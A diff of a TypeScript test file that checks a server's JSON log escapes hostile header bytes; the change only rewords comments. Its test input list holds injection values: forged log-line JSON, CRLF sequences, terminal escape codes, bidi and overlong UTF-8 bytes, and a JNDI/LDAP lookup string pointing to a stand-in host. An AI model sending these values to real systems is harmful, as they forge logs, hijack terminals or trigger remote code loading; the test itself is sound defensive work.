@@ -2,14 +2,14 @@ import { expect, test } from 'vitest';
 import { startDosTarget } from './dos-target.ts';
 import { exchangeRaw } from './raw-client.ts';
 
-/** Bytes that HTTP lets through in a header, and that a terminal or a log reader may act on. */
+/** Bytes that HTTP allows in a header and that a terminal or a log reader may interpret. */
 const TEXTS = [
   '"},{"level":"error","msg":"injected"}',
   '\\n{"level":"error","msg":"injected"}',
   '\x1b[2J\x1b]0;injected\x07',
   'a\tb\x01\x08\x0b\x0c\x7f',
   'a\x85b\x9bc',
-  // U+2028, U+202E and an overlong slash, as bytes.
+  // The bytes of U+2028, U+202E and an overlong slash.
   'a\xe2\x80\xa8b\xe2\x80\xaec\xc0\xaf',
   '%0d%0a{"level":"error"}',
   '\\u000a${jndi:ldap://a.example}',
@@ -58,7 +58,7 @@ test('no text of a request breaks a line of the log, adds one, or brings a contr
     .split('\n')
     .map((line) => JSON.parse(line) as Record<string, unknown>);
   expect(lines.length).toBeGreaterThan(sent / 2);
-  // Whatever a field holds is in escapes, so a terminal that shows the file does nothing.
+  // The log escapes the content of every field, so a terminal that prints the file interprets nothing.
   // oxlint-disable-next-line no-control-regex -- control characters are what is looked for
   expect(log.replaceAll('\n', '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
   for (const line of lines) {
